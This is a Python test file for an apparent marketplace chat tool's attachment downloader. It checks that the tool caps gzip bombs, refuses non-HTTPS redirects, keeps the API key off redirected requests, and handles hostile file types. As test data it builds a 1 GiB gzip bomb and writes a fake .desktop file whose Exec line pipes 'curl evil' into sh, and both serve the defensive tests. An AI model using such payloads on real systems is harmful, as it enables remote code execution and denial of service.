"""Issue 12 §5: files from buyers are bounded and honest."""

from __future__ import annotations

import functools
import gzip
import tracemalloc
import zlib
from datetime import UTC, datetime
from pathlib import Path

import httpx
import pytest

from chatdesk.errors import ChatdeskError, UsageError
from chatdesk.model import Attachment, MessageInfo, Page
from chatdesk.secrets import MemorySecrets
from chatdesk.store import accounts, ingest, views
from chatdesk.store.db import Database
from chatdesk.usecases import attachments

KEY = "ymDOWNLOADkey42"
BASE = "https://api.partner.market.yandex.ru"


class Streamed(httpx.AsyncByteStream):
    """A body that arrives in network-sized chunks, as from a real server (MockTransport
    with ``content=`` would hand over a body that httpx has already decoded in memory)."""

    def __init__(self, data: bytes, chunk: int = 65536) -> None:
        self.data, self.chunk = data, chunk

    async def __aiter__(self):  # type: ignore[no-untyped-def]
        for i in range(0, len(self.data), self.chunk):
            yield self.data[i : i + self.chunk]


@functools.cache
def _gzip_bomb(decoded: int) -> bytes:
    """Made when the test asks, not at import: compressing 1 GiB costs ~3 s of a core, which every
    process that merely collects the suite (each xdist worker) would otherwise pay."""
    z = zlib.compressobj(6, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
    chunk = b"\0" * (16 * 1024 * 1024)
    out = [z.compress(chunk) for _ in range(decoded // len(chunk))]
    return b"".join(out) + z.flush()


BOMB_DECODED = 1024 * 1024 * 1024  # 1 GiB of zeros in about 1 MB


def _world(tmp_path: Path) -> tuple[Database, int]:
    db = Database(f"sqlite:///{tmp_path / 'd.db'}")
    acc = accounts.add_account(db, "ym", "yandex", settings={"business_id": "1"})
    page = Page(messages=(MessageInfo("5", "1", "buyer", "фото", datetime(2026, 1, 1, tzinfo=UTC)),))
    ingest.apply_page(db, acc.id, "chats", page)
    return db, views.list_chats(db)[0].id


def _save(tmp_path: Path, handler, att: Attachment) -> Path:  # type: ignore[no-untyped-def]
    db, chat_id = _world(tmp_path)
    factory = lambda _a: httpx.AsyncClient(transport=httpx.MockTransport(handler))  # noqa: E731
    return attachments.download_attachment(db, MemorySecrets({"ym": KEY}), chat_id, att, tmp_path / "dl", factory)


def test_gzip_bomb_is_capped_by_decoded_bytes_and_the_partial_file_deleted(tmp_path: Path) -> None:
    BOMB = _gzip_bomb(BOMB_DECODED)
    assert len(BOMB) < 1_100_000

    def handler(request: httpx.Request) -> httpx.Response:
        headers = {"content-encoding": "gzip", "content-type": "application/pdf"}
        return httpx.Response(200, stream=Streamed(BOMB), headers=headers)

    tracemalloc.start()
    try:
        with pytest.raises(ChatdeskError, match="larger than"):
            _save(tmp_path, handler, Attachment("bomb.pdf", url=f"{BASE}/files/bomb"))
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 64 * 1024 * 1024, peak
    assert list((tmp_path / "dl").iterdir()) == []


def test_declared_size_plus_margin_is_the_cap(tmp_path: Path) -> None:
    def handler(request: httpx.Request) -> httpx.Response:
        return httpx.Response(200, content=b"%PDF-" + b"x" * 200_000)

    with pytest.raises(ChatdeskError, match="larger than"):
        _save(tmp_path, handler, Attachment("a.pdf", size=1000, url=f"{BASE}/files/a"))
    assert list((tmp_path / "dl").iterdir()) == []


def test_honest_gzip_is_decoded_and_saved(tmp_path: Path) -> None:
    body = b"%PDF-1.4 " + b"hello " * 1000

    def handler(request: httpx.Request) -> httpx.Response:
        return httpx.Response(200, stream=Streamed(gzip.compress(body), 7), headers={"content-encoding": "gzip"})

    path = _save(tmp_path, handler, Attachment("a.pdf", url=f"{BASE}/files/a"))
    assert path.read_bytes() == body and (path.stat().st_mode & 0o777) == 0o600


@pytest.mark.parametrize(
    "location", ["http://cdn.example/a.pdf", "", "ftp://cdn.example/a.pdf"], ids=["http", "none", "ftp"]
)
def test_a_redirect_off_https_is_an_error_never_an_empty_saved_file(tmp_path: Path, location: str) -> None:
    def handler(request: httpx.Request) -> httpx.Response:
        return httpx.Response(302, headers={"location": location} if location else {})

    with pytest.raises(ChatdeskError, match="redirect"):
        _save(tmp_path, handler, Attachment("a.pdf", url=f"{BASE}/files/a"))
    assert list((tmp_path / "dl").iterdir()) == []


def test_a_redirect_to_https_is_followed_without_any_secret_header(tmp_path: Path) -> None:
    seen: list[httpx.Request] = []

    def handler(request: httpx.Request) -> httpx.Response:
        seen.append(request)
        if request.url.host == "api.partner.market.yandex.ru":
            return httpx.Response(302, headers={"location": "https://cdn.example/a.pdf"})
        return httpx.Response(200, content=b"%PDF-1.4 ok")

    path = _save(tmp_path, handler, Attachment("a.pdf", url=f"{BASE}/files/a"))
    assert path.read_bytes() == b"%PDF-1.4 ok"
    assert seen[0].headers.get("api-key") == KEY  # the API host itself gets it
    assert "api-key" not in seen[1].headers and KEY not in str(seen[1].headers)


@pytest.mark.parametrize(
    "name",
    ["отчёт о возврате " * 30 + ".pdf", "照片" * 200 + ".jpeg", "😀" * 100 + ".png", "a" * 400 + ".pdf"],
    ids=["cyrillic", "cjk", "emoji", "ascii"],
)
def test_saved_names_fit_255_bytes_with_extension_and_room_for_n(tmp_path: Path, name: str) -> None:
    folder = tmp_path / "f"
    folder.mkdir()
    ext = name.rsplit(".", 1)[1]
    first = attachments.unique_path(folder, name)
    first.write_bytes(b"x")
    second = attachments.unique_path(folder, name)
    second.write_bytes(b"y")  # the filesystem accepts both
    for p in (first, second):
        assert len(p.name.encode()) <= 255 and p.name.endswith("." + ext)
    assert second.name.endswith(f" (1).{ext}")


def test_v_opens_by_verified_content_or_renames_to_a_safe_extension(tmp_path: Path) -> None:
    pdf_as_jpg = tmp_path / "чек.jpg"
    pdf_as_jpg.write_bytes(b"%PDF-1.7 real pdf")
    opened, ctype = attachments.prepare_to_open(pdf_as_jpg)
    assert ctype == "application/pdf" and opened.suffix == ".pdf" and not pdf_as_jpg.exists()
    good = tmp_path / "photo.jpg"
    good.write_bytes(b"\xff\xd8\xff\xe0 jpeg")
    assert attachments.prepare_to_open(good) == (good, "image/jpeg")
    hostile = tmp_path / "invoice.desktop"
    hostile.write_bytes(b"[Desktop Entry]\nExec=sh -c 'curl evil | sh'\n")
    with pytest.raises(UsageError, match="not an image or PDF"):
        attachments.open_with_system(hostile)
    assert not hostile.exists() and (tmp_path / "invoice.bin").exists()
